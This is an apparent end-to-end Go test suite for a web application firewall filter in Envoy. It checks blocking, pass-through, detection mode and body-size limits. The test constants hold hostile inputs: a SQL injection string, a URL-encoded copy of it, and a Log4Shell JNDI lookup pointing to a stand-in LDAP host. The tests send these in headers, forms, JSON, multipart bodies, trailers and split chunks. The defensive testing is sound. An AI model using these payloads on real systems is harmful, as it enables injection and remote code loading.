package e2e

import (
	"context"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"
)

// The attacks that the tests send, each known to CRS at paranoia level 1.
const (
	sqli    = "1' OR '1'='1"
	inQuery = "/anything?id=1%27%20OR%20%271%27%3D%271"
	jndi    = "${jndi:ldap://x.example/a}"
)

var (
	formType = [2]string{"Content-Type", "application/x-www-form-urlencoded"}
	jsonType = [2]string{"Content-Type", "application/json"}
)

func TestABlockedRequestNeverArrives(t *testing.T) {
	form := [][2]string{formType}
	for _, tc := range []struct {
		name   string
		site   string
		send   request
		status int
	}{
		{"by a rule of phase 1", "rules", request{path: "/anything", header: [][2]string{{"x-deny", "phase1"}}}, 451},
		{"by a rule of phase 1 although a body follows", "rules", request{path: "/anything", header: [][2]string{{"x-deny", "phase1"}, formType}, body: "a=1"}, 451},
		{"by a rule of phase 2 when the headers end the stream", "rules", request{path: "/anything", header: [][2]string{{"x-deny", "phase2"}}}, 422},
		{"by its query", "sample", request{path: inQuery}, 403},
		{"by a header", "sample", request{path: "/anything", header: [][2]string{{"X-Api", jndi}}}, 403},
		{"by its form", "sample", request{path: "/anything", header: form, body: "user=ann&pass=" + url.QueryEscape(sqli)}, 403},
		{"by its JSON", "sample", request{path: "/anything", header: [][2]string{jsonType}, body: `{"user":{"name":"` + sqli + `"}}`}, 403},
		{"by a multipart field", "sample", request{path: "/anything", header: [][2]string{{"Content-Type", "multipart/form-data; boundary=x"}},
			body: "--x\r\nContent-Disposition: form-data; name=\"user\"\r\n\r\n" + sqli + "\r\n--x--\r\n"}, 403},
		{"by a body without a length, in one piece", "sample", request{path: "/anything", header: form, pieces: []string{"user=" + url.QueryEscape(sqli)}}, 403},
		{"by an attack split over three pieces", "sample", request{path: "/anything", header: form, pieces: []string{"user=1%27+O", "R+%271", "%27%3D%271"}}, 403},
		{"by an attack behind 64 KB of harmless form", "sample", request{path: "/anything", header: form, body: "pad=" + strings.Repeat("harmless+", 7000) + "&user=" + url.QueryEscape(sqli)}, 403},
		{"by a trailer", "sample", request{path: "/anything", header: form, body: "user=ann", trailer: [][2]string{{"X-Checksum", jndi}}}, 403},
	} {
		t.Run(tc.name, func(t *testing.T) {
			eachProtocol(t, tc.site, func(t *testing.T, c client, addr string) {
				got := c.send(t, addr, tc.send)
				require.Equal(t, tc.status, got.status, got.body)
				require.Contains(t, got.body, "transaction", "the client can ask about its request")
				require.NotContains(t, got.body, "942100", "and learns nothing of the rules")
				require.Empty(t, arrivals(t), "the function must not see a blocked request")
			})
		})
	}
}

func TestAHarmlessRequestArrivesUnchanged(t *testing.T) {
	for _, tc := range []struct {
		name string
		send request
	}{
		{"without a body", request{path: "/anything?q=shoes"}},
		{"with a form", request{path: "/anything", header: [][2]string{formType}, body: "user=ann&note=1%27"}},
		{"with JSON", request{path: "/anything", header: [][2]string{jsonType}, body: `{"user":"ann"}`}},
		{"in pieces", request{path: "/anything", header: [][2]string{formType}, pieces: []string{"user=a", "nn&no", "te=hello"}}},
		{"with 100 KB", request{path: "/anything", header: [][2]string{formType}, body: "pad=" + strings.Repeat("harmless+", 11000)}},
		{"with a trailer", request{path: "/anything", header: [][2]string{formType}, body: "user=ann", trailer: [][2]string{{"X-Checksum", "abc"}}}},
		{"with Expect: 100-continue", request{path: "/anything", header: [][2]string{formType, {"Expect", "100-continue"}}, body: "user=ann"}},
		{"with an empty body of unknown length", request{method: "POST", path: "/anything", header: [][2]string{formType}, pieces: []string{""}}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			eachProtocol(t, "sample", func(t *testing.T, c client, addr string) {
				got := c.send(t, addr, tc.send)
				require.Equal(t, http.StatusOK, got.status, got.body)
				seen := arrivals(t)
				require.Len(t, seen, 1)
				require.Equal(t, tc.send.body+strings.Join(tc.send.pieces, ""), string(seen[0].Body))
				for _, line := range tc.send.trailer {
					require.Equal(t, line[1], seen[0].Request.Trailer.Get(line[0]))
				}
			})
		})
	}
}

func TestDetectionModeLetsThroughAndReports(t *testing.T) {
	eachProtocol(t, "detect", func(t *testing.T, c client, addr string) {
		got := c.send(t, addr, request{path: inQuery})
		require.Equal(t, http.StatusOK, got.status, got.body)
		require.Len(t, arrivals(t), 1)
		line := accessLine(t)
		require.Equal(t, "detect", line["verdict"])
		require.Contains(t, line["rules"], "942100")
	})
	t.Run("on one route of a policy that blocks", func(t *testing.T) {
		eachProtocol(t, "sample", func(t *testing.T, c client, addr string) {
			got := c.send(t, addr, request{path: "/anything/legacy?id=" + url.QueryEscape(sqli)})
			require.Equal(t, http.StatusOK, got.status, got.body)
			require.Equal(t, "legacy", accessLine(t)["route"])
		})
	})
}

func TestABodyOverTheLimit(t *testing.T) {
	harmless := "a=" + strings.Repeat("x", 4000)
	form := [][2]string{formType}
	for _, tc := range []struct {
		name   string
		send   request
		status int
		arrive int
	}{
		{"is refused with 413", request{path: "/anything", header: form, body: harmless}, 413, 0},
		{"is refused with 413 when its length is unknown", request{path: "/anything", header: form, pieces: []string{harmless[:1500], harmless[1500:]}}, 413, 0},
		{"just at the limit passes", request{path: "/anything", header: form, body: harmless[:2048]}, 200, 1},
		{"is inspected up to the limit and passes where the policy says partial", request{path: "/anything/partial", header: form, body: harmless}, 200, 1},
		{"is blocked by an attack within the limit where the policy says partial", request{path: "/anything/partial", header: form, body: "user=" + url.QueryEscape(sqli) + "&" + harmless}, 403, 0},
		{"is inspected up to the limit although it comes in pieces", request{path: "/anything/partial", header: form, pieces: []string{"user=1%27+OR+", "%271%27%3D%271&", harmless}}, 403, 0},
		{"passes uninspected where the policy says inspect: false", request{path: "/anything/blind", header: form, body: "user=" + url.QueryEscape(sqli) + harmless}, 200, 1},
	} {
		t.Run(tc.name, func(t *testing.T) {
			eachProtocol(t, "limits", func(t *testing.T, c client, addr string) {
				got := c.send(t, addr, tc.send)
				require.Equal(t, tc.status, got.status, got.body)
				seen := arrivals(t)
				require.Len(t, seen, tc.arrive)
				if tc.arrive == 1 {
					require.Equal(t, tc.send.body+strings.Join(tc.send.pieces, ""), string(seen[0].Body), "nothing of a body gets lost")
				}
			})
		})
	}
}

// Envoy's own limit is the wall behind the policy's: a body that the filter
// holds can never grow past it.
func TestABodyOverEnvoysBufferIsRefused(t *testing.T) {
	eachProtocol(t, "limits", func(t *testing.T, c client, addr string) {
		got := c.send(t, addr, request{path: "/anything", header: [][2]string{formType}, body: "a=" + strings.Repeat("x", 3<<20)})
		require.Equal(t, http.StatusRequestEntityTooLarge, got.status)
		require.Empty(t, arrivals(t))
	})
}

// A body whose beginning already is too much must not be waited for.
func TestABlockedBodyIsNotReadToItsEnd(t *testing.T) {
	t.Parallel()
	addr := shared(t).Addr("limits")
	reader, writer := io.Pipe()
	go func() {
		_, _ = io.WriteString(writer, "a="+strings.Repeat("x", 4000))
		// And nothing more: the stream stays open.
	}()
	ctx, cancel := context.WithTimeout(t.Context(), patience)
	defer cancel()
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+addr+"/anything", reader)
	require.NoError(t, err)
	request.Header.Set(formType[0], formType[1])
	got, err := newClient(true).Do(request)
	require.NoError(t, err)
	defer got.Body.Close()
	require.Equal(t, http.StatusRequestEntityTooLarge, got.StatusCode)
}
